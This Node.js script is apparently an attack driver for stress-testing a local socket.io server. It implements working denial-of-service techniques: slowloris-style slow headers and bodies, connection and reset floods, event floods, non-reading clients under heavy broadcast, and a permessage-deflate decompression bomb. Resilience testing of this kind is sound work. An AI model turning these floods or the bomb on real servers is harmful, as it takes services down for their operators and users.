// SPDX-License-Identifier: BSL-1.0
// One attack, until it is told to end: siege.mjs starts it.
//   node attacks.mjs --attack NAME --port N --size N
//
// Prints a line of JSON each quarter of a second: {"open": connections, "opened": so far, "cut": by the server so far,
// "refused": at once}, and {"ready": true} once it is at its size.
import { connect } from "node:net";
import { parseArgs } from "node:util";
import { constants, deflateRawSync } from "node:zlib";

const { values: options } = parseArgs({
    options: { attack: { type: "string" }, port: { type: "string" }, size: { type: "string" } },
});
const size = Number(options.size);
const at_once = 128; // below what a listening socket keeps
const websocket_fields =
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
const target = (transport, sid) => `/socket.io/?EIO=4&transport=${transport}${sid ? `&sid=${sid}` : ""}`;
const request = (method, where, fields = "") => `${method} ${where} HTTP/1.1\r\nHost: x\r\n${fields}\r\n`;

let open = 0;
let opened = 0;
let cut = 0;
let refused = 0;
let connecting = 0;
let ready = false;
let fullest = 0;

/// A masked frame; a mask of zeros leaves the payload as it is.
function frame(payload, first = 0x81) {
    const bytes = Buffer.from(payload);
    const length = bytes.length < 126 ? Buffer.alloc(2) : bytes.length < 65_536 ? Buffer.alloc(4) : Buffer.alloc(10);
    length[0] = first;
    length[1] = 0x80 | (length.length === 2 ? bytes.length : length.length === 4 ? 126 : 127);
    if (length.length === 4) {
        length.writeUInt16BE(bytes.length, 2);
    } else if (length.length === 10) {
        length.writeBigUInt64BE(BigInt(bytes.length), 2);
    }
    return Buffer.concat([length, Buffer.alloc(4), bytes]);
}

/// One connection; `begin` once it is there. What comes is read and dropped, unless `hear` is given or `deaf` is set.
function dial({ begin, hear, deaf = false }) {
    ++connecting;
    const socket = connect({ port: Number(options.port), host: "127.0.0.1", noDelay: true });
    let was_open = false;
    socket.on("connect", () => {
        --connecting;
        ++open;
        ++opened;
        was_open = true;
        socket.mine = true;
        begin?.(socket);
    });
    if (deaf) {
        socket.pause();
    } else {
        socket.on("data", (bytes) => hear?.(socket, bytes.toString("latin1")));
    }
    socket.on("error", () => {});
    socket.on("close", () => {
        if (!was_open) {
            --connecting;
            ++refused;
            return;
        }
        --open;
        cut += socket.left ? 0 : 1;
    });
    return socket;
}

/// Our own end of one.
function leave(socket, with_reset) {
    socket.left = true;
    with_reset ? socket.resetAndDestroy() : socket.destroy();
}

/// Keeps so many connections open; one that is cut is dialled again.
function keep(count, make) {
    setInterval(() => {
        while (open + connecting < count && connecting < at_once) {
            dial(make());
        }
        fullest = Math.max(fullest, open);
    }, 5);
    return () => fullest >= count * 0.95;
}

/// Each of those that are open, once a second.
function every_second(sockets, what) {
    setInterval(() => {
        for (const socket of sockets) {
            socket.destroyed ? sockets.delete(socket) : what(socket);
        }
    }, 1000);
}

const raw_bomb = deflateRawSync(Buffer.from(`4${"x".repeat(50_000_000)}`), { finishFlush: constants.Z_SYNC_FLUSH, level: 9 });
const bomb = frame(raw_bomb.subarray(0, -4), 0xc1);
const flood_of_events = Buffer.concat(Array.from({ length: 100 }, () => frame('42["nothing"]')));
const half_a_second = 500;

/// Each returns whether it is at its size.
const attacks = {
    /// R01: nobody says a word.
    silent: () => keep(size, () => ({})),

    /// R02: a byte of the head each second.
    "slow headers": () => {
        const sockets = new Set();
        const head = request("GET", target("polling"), `X-Long: ${"x".repeat(4000)}\r\n`);
        every_second(sockets, (socket) => socket.write(head[(socket.at = (socket.at ?? 0) + 1) - 1]));
        return keep(size, () => ({ begin: (socket) => sockets.add(socket) }));
    },

    /// R02: a body of 100 bytes a second, on a session of its own.
    "slow bodies": () => {
        const sockets = new Set();
        every_second(sockets, (socket) => socket.write("4".repeat(100)));
        return keep(Math.ceil(size / 2), () => ({
            begin: (socket) => socket.write(request("GET", target("polling"))),
            hear: (socket, text) => {
                const sid = /"sid":"([^"]+)"/.exec(text)?.[1];
                if (sid && !sockets.has(socket)) {
                    socket.write(request("POST", target("polling", sid), "Content-Length: 900000\r\n"));
                    sockets.add(socket);
                }
            },
        }));
    },

    /// R03: sessions that join no namespace, each second one a WebSocket.
    unjoined: () => {
        let nth = 0;
        return keep(size, () => ({
            begin: (socket) =>
                socket.write(
                    ++nth % 2 === 0
                        ? request("GET", target("polling"))
                        : request("GET", target("websocket"), websocket_fields),
                ),
        }));
    },

    /// R05: clients that join and are gone, with a reset or without, as fast as they can.
    reconnects: () => {
        let rounds = 0;
        setInterval(() => {
            for (; connecting + open < at_once; ) {
                dial({
                    begin: (socket) => socket.write(request("GET", target("websocket"), websocket_fields)),
                    hear: (socket, text) => {
                        if (text.includes('0{"sid"')) {
                            socket.write(frame("40"));
                        }
                        if (text.includes("40{")) {
                            leave(socket, ++rounds % 2 === 0);
                        }
                    },
                });
            }
        }, 2);
        return () => rounds > 200;
    },

    /// R01, A03: connections that are reset at once.
    resets: () => {
        setInterval(() => {
            while (connecting < at_once) {
                dial({ begin: (socket) => leave(socket, true) });
            }
        }, 2);
        return () => opened > 500;
    },

    /// R07, R11: members of the namespace that read nothing, while somebody broadcasts 48 KB twenty times a second.
    deaf: () => {
        const count = Math.ceil(size / 50);
        const at_size = keep(count, () => ({
            begin: (socket) => {
                socket.write(request("GET", target("websocket"), websocket_fields));
                socket.write(frame("40"));
            },
            deaf: true,
        }));
        const news = frame(`42["bcast","${"x".repeat(48_000)}"]`);
        dial({
            begin: (socket) => {
                socket.write(request("GET", target("websocket"), websocket_fields));
                socket.write(frame("40"));
                setInterval(() => socket.write(news), 50);
            },
        });
        return at_size;
    },

    /// R15: ten clients that send ten thousand events a second each.
    events: () =>
        keep(10, () => ({
            begin: (socket) => {
                socket.write(request("GET", target("websocket"), websocket_fields));
                socket.write(frame("40"));
                const sending = setInterval(() => socket.writableNeedDrain || socket.write(flood_of_events), 10);
                socket.on("close", () => clearInterval(sending));
            },
        })),

    /// A27: messages of 50 kB that are 50 MB.
    bombs: () =>
        keep(Math.ceil(size / 50), () => ({
            begin: (socket) => {
                socket.write(
                    request(
                        "GET",
                        target("websocket"),
                        `${websocket_fields}Sec-WebSocket-Extensions: permessage-deflate\r\n`,
                    ),
                );
                setTimeout(() => socket.write(bomb), half_a_second);
            },
        })),
};

const at_size = attacks[options.attack]();
setInterval(() => {
    if (!ready && at_size()) {
        ready = true;
        console.log(JSON.stringify({ ready }));
    }
    console.log(JSON.stringify({ open, opened, cut, refused }));
}, 250);
process.on("SIGTERM", () => process.exit(0));
